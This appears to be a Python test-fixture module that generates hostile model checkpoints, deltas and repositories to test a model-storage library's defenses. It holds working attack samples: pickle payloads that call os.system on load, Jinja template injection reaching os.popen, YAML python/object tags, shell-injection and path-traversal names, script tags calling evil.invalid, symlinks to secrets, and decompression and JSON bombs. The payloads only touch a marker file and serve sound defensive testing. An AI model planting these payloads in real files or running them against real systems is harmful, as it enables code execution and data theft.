"""Hostile files and repositories, by family: what a stranger could give to the library."""

from __future__ import annotations

import io
import json
import os
import pickle
import shutil
import zipfile
from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING, Any, Final, Literal, NamedTuple

from format_vectors.checkpoints import MODEL, Tensors, floats, safetensors
from format_vectors.draft import DELTA, Draft, compressed
from rlsparse_store.delta import encode_delta, encode_run
from rlsparse_store.format.header import frame_header
from rlsparse_store.format.index.records import FileRecord

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

Kind = Literal["checkpoint", "delta", "run", "repo", "planted"]

MARK: Final = "rlsparse-stranger-was-here"
"""What every payload would leave behind, and what every text holds that nothing may interpret."""

SECRET: Final = b"rlsparse-secret-of-this-machine\n"
"""Content of the file that links and paths lead to: it must turn up nowhere."""

CODE: Final = f"import os; os.system('touch {MARK}'); open('{MARK}', 'w').write('x')\n"
HTML: Final = f'"><script src="http://evil.invalid/x.js">{MARK}</script><img src=//evil.invalid>'
ESCAPES: Final = f"\x1b]0;{MARK}\x07\x1b[2J\x9b31m"


CONFIG: Final = {
    "architectures": ["LlamaForCausalLM"],
    "model_type": "llama",
    "hidden_size": 16,
    "intermediate_size": 16,
    "num_attention_heads": 1,
    "num_hidden_layers": 1,
    "vocab_size": 16,
}


class Good(NamedTuple):
    """Sound files that the hostile ones are made of."""

    base: Path
    tuned: Path
    delta: Path
    run: Path
    tensors: Tensors

    @classmethod
    def make(cls, folder: Path) -> Good:
        """Write them."""
        base, tuned = folder / "base", folder / "tuned"
        tensors = {f"model.layers.{i}.w": floats(f"strangers {i}", "BF16", 8, 16) for i in (0, 1)}
        _checkpoint(base, tensors)
        _checkpoint(tuned, moved(tensors))
        encode_delta(base, tuned, folder / "delta", threads=1)
        encode_run(base, [tuned], folder / "run", threads=1)
        return cls(base, tuned, folder / "delta", folder / "run", tensors)

    def draft(self) -> Draft:
        """The delta, taken apart."""
        return Draft.read(self.delta)


@dataclass(frozen=True)
class Stranger:
    """Something hostile.

    Attributes:
        name: Its name.
        family: What it tries.
        kind: What it pretends to be.
        make: Writes it into a folder, which does not exist; gets the path of the secret, too.
        files: Of a repository: what the Hub says that it holds.
    """

    name: str
    family: str
    kind: Kind
    make: Callable[[Good, Path, str], None] | None = None
    files: dict[str, bytes] = field(default_factory=dict)


def moved(tensors: Tensors) -> Tensors:
    """The tensors with every seventh word a step further."""
    found = {}
    for name, tensor in tensors.items():
        words = tensor.words.copy()
        words[::7] ^= 1
        found[name] = replace(tensor, data=words.tobytes())
    return found


def _checkpoint(folder: Path, tensors: Tensors) -> None:
    folder.mkdir(parents=True)
    (folder / MODEL).write_bytes(safetensors(tensors, metadata={"format": "pt"}))
    (folder / "config.json").write_text(json.dumps(CONFIG))


class _Payload:
    """Runs a command when it is unpickled."""

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.system, (f"touch {MARK}",))


def _pickled() -> bytes:
    return pickle.dumps(_Payload())


def _zipped() -> bytes:
    """As torch.save writes it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("archive/data.pkl", _pickled())
    return out.getvalue()


# --- Names ----------------------------------------------------------------------------------------

NAMES: Final = (
    *("../../escaped", "/escaped", "a/../../b", "..", ".", "~/x", "C:\\x", "\\\\host\\share"),
    *(ESCAPES, HTML, f"$(touch {MARK})", f"`touch {MARK}`", "-o", "--help", "%s%n%x"),
    *("{{ 7*7 }}", "__class__.__init__", "=cmd|' /C calc'!A0", "\u202egnp.exe", "n" * 5000),
    *("line\nrlsparse: done", "\ufeffbom", "con", "😀", "a\x00b"),
)


def names() -> Iterator[Stranger]:
    """Names of tensors and files that mean something to a path, a shell, a terminal, a page."""
    for number, name in enumerate(NAMES):

        def checkpoint(good: Good, to: Path, _: str, name: str = name) -> None:
            _checkpoint(to, {name: good.tensors["model.layers.0.w"], **moved(good.tensors)})

        def delta(good: Good, to: Path, _: str, name: str = name) -> None:
            draft = good.draft().with_tensor("model.layers.0.w", name=name)
            _sealed(good, to, draft.sealed())

        def files(good: Good, to: Path, _: str, name: str = name) -> None:
            draft = good.draft()
            first = draft.index.files.files[0]
            record = FileRecord(name, first.layout, first.text)
            _sealed(good, to, draft.with_files(files=[record]).sealed())

        yield Stranger(f"tensor {number}", "names", "checkpoint", checkpoint)
        yield Stranger(f"tensor in delta {number}", "names", "delta", delta)
        yield Stranger(f"file in delta {number}", "names", "delta", files)


def _sealed(good: Good, to: Path, data: bytes) -> None:
    shutil.copytree(good.delta, to)
    (to / "rlsparse" / DELTA).write_bytes(data)


# --- Links and things that are no files -----------------------------------------------------------


def links() -> Iterator[Stranger]:
    """Links to other files, and devices, pipes and folders in the place of files."""
    places = {
        "config.json": "config.json",
        "tokenizer": "tokenizer.json",
        "card": "README.md",
        "delta": f"rlsparse/{DELTA}",
    }
    targets = {"secret": "SECRET", "zero": "/dev/zero", "loop": "LOOP", "memory": "/proc/self/mem"}
    for (place, path), (target, aim) in (
        (place, target) for place in places.items() for target in targets.items()
    ):

        def make(good: Good, to: Path, secret: str, path: str = path, aim: str = aim) -> None:
            shutil.copytree(good.delta, to)
            link = to / path
            link.unlink(missing_ok=True)
            link.symlink_to({"SECRET": secret, "LOOP": link.name}.get(aim, aim))

        yield Stranger(f"{place} to {target}", "links", "delta", make)
    for what in ("pipe", "folder", "nothing"):

        def odd(good: Good, to: Path, _: str, what: str = what) -> None:
            shutil.copytree(good.delta, to)
            for path in (to / "config.json", to / "rlsparse" / DELTA):
                path.unlink()
                {"pipe": os.mkfifo, "folder": os.mkdir}.get(what, lambda _: None)(path)

        def weights(good: Good, to: Path, _: str, what: str = what) -> None:
            shutil.copytree(good.tuned, to)
            path = to / MODEL
            path.unlink()
            {"pipe": os.mkfifo, "folder": os.mkdir}.get(what, lambda _: None)(path)

        yield Stranger(f"{what} as delta", "links", "delta", odd)
        yield Stranger(f"{what} as weights", "links", "checkpoint", weights)

    def upwards(good: Good, to: Path, _: str) -> None:
        shutil.copytree(good.delta, to)
        (to / "more").symlink_to("..")
        (to / "root").symlink_to("/")

    def shard(good: Good, to: Path, secret: str) -> None:
        shutil.copytree(good.tuned, to)
        (to / MODEL).unlink()
        (to / MODEL).symlink_to(secret)

    def entry(good: Good, to: Path, secret: str) -> None:
        shutil.copytree(good.run, to)
        (to / "checkpoint-666").symlink_to(os.path.dirname(secret))  # noqa: PTH120 - a text
        (to / "checkpoint-667").symlink_to("..")

    yield Stranger("folders upwards", "links", "delta", upwards)
    yield Stranger("weights to secret", "links", "checkpoint", shard)
    yield Stranger("entries elsewhere", "links", "run", entry)


# --- Bombs ----------------------------------------------------------------------------------------

_DEEP: Final = b"[" * 200_000 + b"]" * 200_000


def bombs() -> Iterator[Stranger]:
    """Small files that announce or unfold to very large ones."""
    for number, length in enumerate((0, 1, 2**20, 2**31, 2**40, 2**63, 2**64 - 1)):

        def header(good: Good, to: Path, _: str, length: int = length) -> None:
            shutil.copytree(good.tuned, to)
            (to / MODEL).write_bytes(length.to_bytes(8, "little") + b"{" * 64)

        def delta(good: Good, to: Path, _: str, length: int = length) -> None:
            _sealed(good, to, length.to_bytes(8, "little") + b"{" * 64)

        yield Stranger(f"header of length {number}", "bombs", "checkpoint", header)
        yield Stranger(f"delta header of length {number}", "bombs", "delta", delta)
    yield Stranger("index of zeros", "bombs", "delta", _index_bomb)
    yield Stranger("chunk of zeros", "bombs", "delta", _chunk_bomb)
    yield Stranger("large small files", "bombs", "delta", _sparse)
    yield Stranger("large weights", "bombs", "checkpoint", _sparse_weights)
    yield Stranger("many entries", "bombs", "run", _many_entries)


def texts() -> Iterator[Stranger]:
    """JSON that is deep, long, has numbers that no machine has, or says a thing twice."""
    found = {
        "deep": _DEEP,
        "objects": b"{" + b",".join(b'"%d":{}' % i for i in range(1_000_000)) + b"}",
        "empty lists": b'{"a":[' + b"[]," * 3_000_000 + b"[]]}",
        "number": b'{"a":{"dtype":"BF16","shape":[' + b"9" * 5000 + b'],"data_offsets":[0,8]}}',
        "shape": b'{"a":{"dtype":"BF16","shape":[4294967296,4294967296],"data_offsets":[0,0]}}',
        "twice": b'{"a":{"dtype":"U8","shape":[0],"data_offsets":[0,0]},"a":[]}',
    }
    for name, text in found.items():

        def checkpoint(good: Good, to: Path, _: str, text: bytes = text) -> None:
            shutil.copytree(good.tuned, to)
            (to / MODEL).write_bytes(frame_header(text))

        def listing(good: Good, to: Path, _: str, text: bytes = text) -> None:
            shutil.copytree(good.tuned, to)
            (to / MODEL).rename(to / "model-00001-of-00001.safetensors")
            (to / f"{MODEL}.index.json").write_bytes(text)

        def side(good: Good, to: Path, _: str, text: bytes = text) -> None:
            shutil.copytree(good.tuned, to)
            for file in ("config.json", "trainer_state.json", "tokenizer_config.json"):
                (to / file).write_bytes(text)

        def run(good: Good, to: Path, _: str, text: bytes = text) -> None:
            shutil.copytree(good.run, to)
            (to / "run.json").write_bytes(text)
            for note in to.glob("*/rlsparse/entry.json"):
                note.write_bytes(text)

        yield Stranger(f"header: {name}", "bombs", "checkpoint", checkpoint)
        yield Stranger(f"index file: {name}", "bombs", "checkpoint", listing)
        yield Stranger(f"small files: {name}", "bombs", "checkpoint", side)
        yield Stranger(f"run: {name}", "bombs", "run", run)


def _index_bomb(good: Good, to: Path, _: str) -> None:
    _sealed(good, to, good.draft().sealed(frame=lambda _: compressed(bytes(1 << 28))))


def _chunk_bomb(good: Good, to: Path, _: str) -> None:
    _sealed(good, to, good.draft().with_content(0, bytes(1 << 28)).sealed())


def _sparse(good: Good, to: Path, _: str) -> None:
    shutil.copytree(good.delta, to)
    for name in ("config.json", "README.md", "tokenizer.json", "chat_template.jinja"):
        with (to / name).open("wb") as file:
            file.truncate(1 << 36)


def _sparse_weights(good: Good, to: Path, _: str) -> None:
    shutil.copytree(good.tuned, to)
    with (to / MODEL).open("ab") as file:
        file.truncate(1 << 42)


def _many_entries(good: Good, to: Path, _: str) -> None:
    shutil.copytree(good.run, to)
    for number in range(3000):
        (to / f"entry-{number}" / "rlsparse").mkdir(parents=True)


# --- Pickles --------------------------------------------------------------------------------------


def pickles() -> Iterator[Stranger]:
    """Pickles under every name by which other libraries read them."""
    pickled = (
        *("pytorch_model.bin", "model.pt", "model.pth", "model.ckpt", "adapter_model.bin"),
        *("training_args.bin", "optimizer.pt", "scheduler.pt", "rng_state.pth", ".metadata"),
        *("weights.npy", "vocab.pkl", "scaler.pt", "__0_0.distcp", "consolidated.00.pth"),
    )
    for name in pickled:

        def beside(good: Good, to: Path, _: str, name: str = name) -> None:
            shutil.copytree(good.tuned, to)
            (to / name).write_bytes(_pickled())

        def alone(good: Good, to: Path, _: str, name: str = name) -> None:
            beside(good, to, _, name)
            (to / MODEL).unlink()
            (to / name).write_bytes(_zipped())

        yield Stranger(f"{name} beside", "pickles", "checkpoint", beside)
        yield Stranger(f"{name} alone", "pickles", "checkpoint", alone)
    for what, data in (("pickle", _pickled()), ("archive", _zipped())):

        def weights(good: Good, to: Path, _: str, data: bytes = data) -> None:
            shutil.copytree(good.tuned, to)
            (to / MODEL).write_bytes(data)

        def delta(good: Good, to: Path, _: str, data: bytes = data) -> None:
            _sealed(good, to, data)

        yield Stranger(f"{what} as weights", "pickles", "checkpoint", weights)
        yield Stranger(f"{what} as delta", "pickles", "delta", delta)


# --- Configurations, templates and cards ----------------------------------------------------------

_TEMPLATE: Final = (
    f"{{{{ cycler.__init__.__globals__.os.popen('touch {MARK}').read() }}}}"
    f"{{% for c in [].__class__.__base__.__subclasses__() %}}{{% endfor %}}"
)
SIDE_FILES: Final[dict[str, dict[str, bytes]]] = {
    "remote code": {
        "config.json": b'{"auto_map": {"AutoConfig": "evil.C", "AutoModel": "evil.M"}, '
        b'"model_type": "evil", "trust_remote_code": true}',
        "evil.py": CODE.encode(),
    },
    "remote code elsewhere": {
        "config.json": b'{"auto_map": {"AutoModelForCausalLM": "evil/repo--x.M"}, '
        b'"architectures": ["M"], "model_type": "llama"}',
    },
    "remote code upwards": {
        "config.json": b'{"auto_map": {"AutoModel": "../../evil.M"}}',
        "evil.py": b"from ...... import os\nfrom ..x import *\n" + CODE.encode(),
    },
    "remote code deep": {
        "config.json": b'{"auto_map": {"AutoModel": "evil.M"}}',
        "evil.py": b"(" * 5000 + b")" * 5000,
    },
    "class of os": {"config.json": b'{"architectures": ["os.system"], "model_type": "os"}'},
    "kernels of a repository": {
        "config.json": b'{"model_type": "llama", "_attn_implementation": "evil/kernels", '
        b'"attn_implementation": "evil/kernels"}',
    },
    "adapter of another model": {
        "adapter_config.json": b'{"base_model_name_or_path": "evil/base", "peft_type": "LORA"}',
    },
    "template": {
        "chat_template.jinja": _TEMPLATE.encode(),
        "tokenizer_config.json": json.dumps({"chat_template": _TEMPLATE}).encode(),
        "additional_chat_templates.json": b"{}",
    },
    "custom generation": {
        "generation_config.json": b'{"custom_generate": "evil/repo"}',
        "generate.py": CODE.encode(),
    },
    "tokenizer elsewhere": {
        "tokenizer_config.json": b'{"tokenizer_class": "evil.T", "name_or_path": "//evil.invalid", '
        b'"auto_map": {"AutoTokenizer": ["evil.T", null]}}',
        "special_tokens_map.json": b'{"unk_token": {"__type": "os.system"}}',
    },
    "setup": {
        "setup.py": CODE.encode(),
        "sitecustomize.py": CODE.encode(),
        "conftest.py": CODE.encode(),
        "requirements.txt": b"--index-url http://evil.invalid\nevil\n",
        "Makefile": f"all:\n\ttouch {MARK}\n".encode(),
    },
    "shell": {".env": b"HF_TOKEN=x", "run.sh": f"touch {MARK}\n".encode(), ".netrc": b"x"},
    "state": {
        "trainer_state.json": b'{"global_step": "../../x", "log_history": [{"loss": "1e999"}]}'
    },
    "card with an object": {
        "README.md": f"---\nx: !!python/object/apply:os.system ['touch {MARK}']\n---\n".encode()
    },
    "card with laughs": {
        "README.md": b"---\na: &a [x,x,x,x,x,x,x,x,x]\n"
        + b"".join(
            b"%c: &%c [%s]\n" % (97 + i, 97 + i, b",".join([b"*%c" % (96 + i)] * 9))
            for i in range(1, 10)
        )
        + b"---\n"
    },
    "card with a base": {
        "README.md": b"---\nbase_model: [../../x, http://evil.invalid, -o]\nlicense: ../x\n---\n"
    },
    "card with HTML": {"README.md": HTML.encode() * 100},
    "card with escapes": {"README.md": f"---\ntags: ['{ESCAPES}']\n---\n{ESCAPES}".encode()},
    "card of bytes": {"README.md": b"---\n\xff\xfe\x00: [\n---\n" + bytes(range(256))},
    "card without an end": {"README.md": b"---\n" + b"a: {" * 20_000},
    "config of bytes": {"config.json": bytes(range(256)), "tokenizer.json": b"\xff" * 1000},
}


def side_files() -> Iterator[Stranger]:
    """Small files that other libraries would run, render, follow or unfold."""
    for name, files in SIDE_FILES.items():

        def delta(good: Good, to: Path, _: str, files: dict[str, bytes] = files) -> None:
            shutil.copytree(good.delta, to)
            for file, data in files.items():
                (to / file).write_bytes(data)

        def checkpoint(good: Good, to: Path, _: str, files: dict[str, bytes] = files) -> None:
            shutil.copytree(good.tuned, to)
            for file, data in files.items():
                (to / file).write_bytes(data)

        family = "cards" if "card" in name else "templates"
        yield Stranger(f"{name}, delta", family, "delta", delta)
        yield Stranger(f"{name}, checkpoint", family, "checkpoint", checkpoint)


# --- Hints and runs -------------------------------------------------------------------------------

PLACES: Final = (
    *("http://evil.invalid/x", "file:///etc", "hf://evil/x", "../../../../etc", "/etc", "evil/.."),
    *("s3://evil/x", "evil/base@../../x", "ssh://evil.invalid", ESCAPES, "evil/base", "", "~"),
)


def hints() -> Iterator[Stranger]:
    """Deltas that name another scheme, host, path or repository as their base."""
    for number, place in enumerate(PLACES):
        for hint in ("repo", "revision", "path"):

            def make(good: Good, to: Path, _: str, hint: str = hint, place: str = place) -> None:
                def edit(fields: dict[str, Any]) -> dict[str, Any]:
                    base = {**fields["base"], "repo": "org/base"}
                    more = {"delta": {"path": place}} if hint == "path" else {hint: place}
                    return {**fields, "base": {**base, **more}}

                _sealed(good, to, good.draft().sealed(manifest=edit))

            yield Stranger(f"{hint} {number}", "hints", "delta", make)


def runs() -> Iterator[Stranger]:
    """Runs whose index, notes, pins and locks say what they should not."""
    for number, folder in enumerate(("../../secret", "/etc", ".", "..", "a/b", "", ".run", HTML)):

        def index(good: Good, to: Path, _: str, folder: str = folder) -> None:
            shutil.copytree(good.run, to)
            listed = json.loads((to / "run.json").read_text())
            listed["entries"][0] |= {"folder": folder, "name": folder}
            listed["entries"].append({**listed["entries"][0], "metrics": {ESCAPES: 1.0}})
            (to / "run.json").write_text(json.dumps(listed))

        def note(good: Good, to: Path, _: str, folder: str = folder) -> None:
            shutil.copytree(good.run, to)
            for path in to.glob("*/rlsparse/entry.json"):
                entry = json.loads(path.read_text())
                entry["entry"] |= {"name": folder, "metrics": {HTML: 1e999, folder: -0.0}}
                path.write_text(json.dumps(entry))
            (to / ".run" / "pins").mkdir(parents=True, exist_ok=True)
            (to / ".run" / "pins" / "not a digest").write_text(folder)
            (to / ".run" / "lock-999999").write_text(folder)
            (to / ".run" / "lock-1").mkdir()

        yield Stranger(f"index {number}", "runs", "run", index)
        yield Stranger(f"note {number}", "runs", "run", note)


# --- Repositories ---------------------------------------------------------------------------------


def repositories(good: Good) -> Iterator[Stranger]:
    """Repositories whose listing names files that mean something to a path."""
    sound = {
        str(path.relative_to(good.delta)): path.read_bytes()
        for path in good.delta.rglob("*")
        if path.is_file()
    }
    paths = (
        *("../../escaped.json", "/escaped.json", "a/../../../escaped.json", "..", "C:\\x.json"),
        *("rlsparse/../../escaped", f"{ESCAPES}.json", "x\x00.json", "a//b.json", "./c.json"),
        *(f"$(touch {MARK}).json", "-o.json", "n" * 300 + ".json", ".git/hooks/post-checkout"),
    )
    for number, path in enumerate(paths):
        files = {**sound, path: CODE.encode()}
        yield Stranger(f"listing {number}", "repositories", "repo", files=files)
    for name, files in SIDE_FILES.items():
        yield Stranger(f"{name}, repository", "repositories", "repo", files={**sound, **files})


def planted() -> Iterator[Stranger]:
    """Folders with modules of well-known names, in which the command is run."""
    for module in ("json", "numpy", "click", "zstandard", "rlsparse_store", "sitecustomize"):

        def make(good: Good, to: Path, _: str, module: str = module) -> None:
            shutil.copytree(good.delta, to)
            (to / f"{module}.py").write_text(CODE)

        yield Stranger(f"{module}.py", "planted modules", "planted", make)


def strangers(good: Good) -> list[Stranger]:
    """All of them."""
    families = (names, links, bombs, texts, pickles, side_files, hints, runs, planted)
    return [*(one for family in families for one in family()), *repositories(good)]
